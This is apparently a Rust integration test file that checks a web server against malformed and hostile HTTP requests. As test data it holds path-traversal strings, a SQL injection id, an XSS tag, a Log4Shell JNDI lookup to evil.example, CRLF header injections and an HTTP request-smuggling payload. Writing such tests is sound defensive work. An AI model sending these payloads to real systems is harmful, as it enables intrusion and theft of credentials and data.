//! Paths, methods and heads of requests that nobody serves.

use std::collections::BTreeSet;

use reqwest::Method;
use serde_json::json;
use tally_tests::client::answer;

use super::{assert_calm, assert_error, assert_problem, raw, raw_request, server, somebody};
use crate::support::document;

/// Every path that is served, and its methods. Proxies may ask at theirs by any method.
fn served() -> Vec<(String, BTreeSet<String>)> {
    let id = "018f0000-0000-7000-8000-000000000000";
    let by_proxies = |path: &str| path == "/auth/verify" || path.starts_with("/auth/verify-only/");
    let paths = document::paths().filter(|path| !by_proxies(path));
    let each = paths.map(|path| {
        let mut methods: BTreeSet<String> = document::operations(path).map(|(method, _)| method).collect();
        if methods.contains("GET") {
            methods.insert("HEAD".to_owned());
        }
        let parts = path.split('/').map(|part| if part.starts_with('{') { id } else { part });
        (parts.collect::<Vec<_>>().join("/"), methods)
    });
    each.collect()
}

#[tokio::test]
async fn another_method_is_405_and_told_which_would_be_right() {
    let client = server().await.client();
    for (path, allowed) in served() {
        for method in ["GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "get"] {
            if allowed.contains(method) {
                continue;
            }
            let request = client.request(Method::from_bytes(method.as_bytes()).expect("a method"), &path);
            let (answer, about) = (answer(request).await, format!("{method} {path}"));
            if path.starts_with("/v1") {
                assert_problem(&answer, 405, "method_not_allowed", "method not allowed", &about);
            } else if path.starts_with("/oauth") {
                let told = json!({ "error": "invalid_request", "error_description": "method not allowed" });
                assert_eq!((answer.status, answer.json()), (405, told), "{about}");
            } else {
                assert_error(&answer, 405, "method not allowed", &about);
            }
            let told = answer.header("allow").unwrap_or_default().split(',').map(str::to_owned);
            assert_eq!(told.collect::<BTreeSet<_>>(), allowed, "{about}");
        }
    }
    assert_calm().await;
}

#[tokio::test]
async fn an_unknown_route_is_404_in_the_words_of_its_family() {
    let (client, login) = somebody().await;
    let paths = [
        "/",
        "/api",
        "/auth",
        "/api/",
        "/api/ME",
        "/api/me/x",
        "/auth/google/x",
        "/v10/me",
        "/apiv1/me",
        "/ws/x",
    ];
    for path in paths {
        for method in [Method::GET, Method::POST, Method::DELETE] {
            let answer = answer(client.request(method.clone(), path).bearer_auth(&login.token)).await;
            assert_error(&answer, 404, "not found", &format!("{method} {path}"));
        }
    }
    for path in ["/v1", "/v1/", "/v1/x", "/v1/me/x", "/v1/audit/1"] {
        for method in [Method::GET, Method::POST, Method::DELETE] {
            let answer = answer(client.request(method.clone(), path).bearer_auth(&login.token)).await;
            assert_problem(&answer, 404, "not_found", "not found", &format!("{method} {path}"));
        }
    }
    assert_calm().await;
}

#[tokio::test]
async fn a_path_is_what_it_says_and_leads_nowhere_else() {
    let (_, login) = somebody().await;
    let bearer = format!("Bearer {}", login.token);
    let headers = [("Authorization", bearer.as_str())];
    let get = |status, path: &'static str| ("GET", status, path.to_owned());
    let cases = [
        get(404, "/api/me/../tokens"),
        get(404, "/api/./me"),
        get(404, "/api/%2e%2e/v1/me"),
        get(404, "/api/%2E%2E%2Fme"),
        get(404, "/api%2fme"),
        get(404, "/api/%6de"),
        get(404, "/api/me%00"),
        get(404, "/api/me;x=1"),
        get(404, "/api\\me"),
        get(404, "/api//me"),
        get(404, "/v1/me%20"),
        get(404, "/%ff%fe"),
        get(404, "/api/%"),
        get(404, "/api/%zz"),
        // A doubled first and any last slash are the only ones forgiven.
        get(200, "//api/me"),
        get(200, "/api/me/"),
        get(200, "/api/me//"),
        get(200, "/api/tokens/"),
        get(200, "/api/me?"),
        get(200, "/api/me?x=%00&x=%ff&%=%"),
        get(200, "http://elsewhere.example/api/me"),
        get(404, "http://elsewhere.example"),
        ("DELETE", 400, "/api/tokens/%00".to_owned()),
        ("DELETE", 400, "/api/tokens/%ff".to_owned()),
        ("DELETE", 400, "/api/tokens/..%2f..%2fme".to_owned()),
        ("DELETE", 400, format!("/api/tokens/{}", "9".repeat(30_000))),
        ("DELETE", 405, "/api/tokens/".to_owned()),
        ("GET", 404, format!("/api/{}", "a/".repeat(15_000))),
        ("GET", 404, format!("/{}", "%2e".repeat(10_000))),
        ("GET", 414, format!("/{}", "a".repeat(70_000))),
        ("GET", 200, format!("/api/me?{}", "a=b&".repeat(10_000))),
        ("GET", 400, format!("/v1/audit?{}", "limit=1&".repeat(7_000))),
        ("GET", 400, format!("/v1/audit?name={}", "%00".repeat(10_000))),
        ("OPTIONS", 200, "*".to_owned()),
    ];
    for (method, status, path) in cases {
        let answer = raw_request(&format!("{method} {path}"), &headers).await;
        let shown = &path[..path.len().min(60)];
        assert_eq!(answer.status, Some(status), "{method} {shown}: {}", answer.text);
        if status == 404 || path.starts_with("/api/tokens/") {
            assert!(
                answer.text.contains("content-type: application/json") || path.starts_with("/v1"),
                "{method} {shown}: {}",
                answer.text
            );
        }
    }
    assert_calm().await;
}

#[tokio::test]
async fn a_malformed_token_id_is_400() {
    let (client, login) = somebody().await;
    let ids = [
        "x",
        "0",
        "-1",
        "null",
        "current",
        "pak-018f0000-0000-7000-8000-000000000000",
        "018f00000000700080000000000000000",
        "018f0000-0000-7000-8000-00000000000",
        "018f0000-0000-7000-8000-0000000000000",
        "{018f0000-0000-7000-8000-000000000000}",
        "urn:uuid:018f0000-0000-7000-8000-000000000000",
        "018f0000-0000-7000-8000-00000000000g",
        "%20018f0000-0000-7000-8000-000000000000",
        "018f0000-0000-7000-8000-000000000000%0a",
        "%ff",
        "%00",
        "*",
        "%25",
        "'%20or%20'1'='1",
    ];
    for id in ids {
        let request = client.request(Method::DELETE, &format!("/api/tokens/{id}")).bearer_auth(&login.token);
        assert_error(&answer(request).await, 400, "invalid token id", id);
    }
    for query in ["line=1", "line=", "line", "line=TRUE", "line=true&line=true", "line=%ff", "line=true%00"] {
        let path = format!("/api/tokens/018f0000-0000-7000-8000-000000000000?{query}");
        let request = client.request(Method::DELETE, &path).bearer_auth(&login.token);
        assert_error(&answer(request).await, 400, "line must be true or false", query);
    }
    assert_calm().await;
}

#[tokio::test]
async fn a_head_too_large_is_refused_without_a_failure() {
    let (_, login) = somebody().await;
    let bearer = format!("Bearer {}", login.token);
    let names: Vec<String> = (0..5000).map(|n| format!("X-Many-{n}")).collect();
    let many: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "x")).collect();
    assert_eq!(raw_request("GET /api/me", &many).await.status, Some(431), "5,000 headers");
    let long = "x".repeat(1024 * 1024);
    assert_eq!(raw_request("GET /api/me", &[("X-Long", &long)]).await.status, Some(431), "a header of 1 MiB");
    assert_eq!(
        raw_request("GET /api/me", &[("Authorization", &long)]).await.status,
        Some(431),
        "a token of 1 MiB"
    );
    // Long, and still read: what it holds is judged, not its length.
    let cookies = format!("a={}; multica_auth={}", "x".repeat(50_000), login.auth_cookie);
    assert_eq!(raw_request("GET /api/me", &[("Cookie", &cookies)]).await.status, Some(200));
    let longer = format!("{bearer}{}", "x".repeat(50_000));
    assert_eq!(raw_request("GET /api/me", &[("Authorization", &longer)]).await.status, Some(401));
    let ids = "x".repeat(50_000);
    let answer = raw_request("GET /api/me", &[("Authorization", &bearer), ("X-Request-ID", &ids)]).await;
    assert_eq!(answer.status, Some(200));
    assert!(!answer.text.contains("xxxx"), "a request id that is none is not repeated");
    assert_calm().await;
}

#[tokio::test]
async fn bytes_that_are_no_request_are_refused_without_a_failure() {
    let cases: [(&str, &[u8]); 14] = [
        ("rubbish", b"\x00\x01\x02\x03\r\n\r\n"),
        ("a TLS hello", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n"),
        ("no version", b"GET /api/me\r\n\r\n"),
        ("an unknown version", b"GET /api/me HTTP/3.7\r\n\r\n"),
        ("a space in a header's name", b"GET /api/me HTTP/1.1\r\nHost : x\r\n\r\n"),
        ("a header without a name", b"GET /api/me HTTP/1.1\r\n: x\r\n\r\n"),
        ("a NUL in a header", b"GET /api/me HTTP/1.1\r\nX-Request-ID: a\0b\r\n\r\n"),
        ("a bare CR in a header", b"GET /api/me HTTP/1.1\r\nX-Request-ID: a\rX-Evil: b\r\n\r\n"),
        ("a folded header", b"GET /api/me HTTP/1.1\r\nX-Request-ID: a\r\n X-Evil: b\r\n\r\n"),
        ("a raw byte in the path", b"GET /api/\xff\0 HTTP/1.1\r\n\r\n"),
        ("two lengths", b"POST /auth/logout HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab"),
        ("a negative length", b"POST /auth/logout HTTP/1.1\r\nContent-Length: -1\r\n\r\n"),
        ("a signed length", b"POST /auth/logout HTTP/1.1\r\nContent-Length: +1\r\n\r\na"),
        (
            "an unknown coding",
            b"POST /auth/logout HTTP/1.1\r\nTransfer-Encoding: chunked, x\r\n\r\n0\r\n\r\n",
        ),
    ];
    for (about, bytes) in cases {
        let answer = raw(bytes).await;
        assert_eq!(answer.status, Some(400), "{about}: {}", answer.text);
    }
    assert_calm().await;
}

/// Two readers that disagree on where a request ends see different requests (CWE-444).
#[tokio::test]
async fn a_request_with_two_ideas_of_its_end_smuggles_nothing() {
    let (_, login) = somebody().await;
    let bytes = format!(
        "POST /auth/send-code HTTP/1.1\r\nHost: tally\r\nContent-Type: application/json\r\n\
         Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n\
         GET /api/me HTTP/1.1\r\nHost: tally\r\nAuthorization: Bearer {}\r\nConnection: close\r\n\r\n",
        login.token
    );
    let answer = raw(bytes.as_bytes()).await;
    assert_eq!(answer.status, Some(400), "{}", answer.text);
    assert!(!answer.text.contains("\"email\":"), "the second request was not answered: {}", answer.text);
    assert_calm().await;
}

#[tokio::test]
async fn a_request_id_injects_nothing() {
    let (client, login) = somebody().await;
    let texts = [
        "x",
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/x}",
        "018f0000-0000-7000-8000-000000000000, x",
        "%0d%0aX-Evil: 1",
        "\u{1b}[2J",
        "\"}\n{\"level\":\"ERROR\"",
    ];
    for text in texts.into_iter().filter(|text| reqwest::header::HeaderValue::from_str(text).is_ok()) {
        let request = client.get("/v1/me").bearer_auth(&login.token).header("x-request-id", text);
        let answer = answer(request).await;
        let id = answer.header("x-request-id").expect("an id of the server's own");
        assert!(uuid::Uuid::parse_str(id).is_ok() && id.len() == 36, "{text} became {id}");
        assert!(answer.header("x-evil").is_none(), "{text}");
    }
    // In the raw, a line break makes another header of the request, and none of the answer.
    let broken = raw_request("GET /api/config", &[("X-Request-ID", "a\r\nX-Evil: 1\r\nX-User-ID: 1")]).await;
    assert_eq!(broken.status, Some(200));
    assert!(!broken.text.to_lowercase().contains("evil"), "{}", broken.text);
    let log = server().await.log();
    assert!(
        !log.contains("jndi") && !log.contains("passwd"),
        "what clients call their requests is not logged"
    );
    assert_calm().await;
}
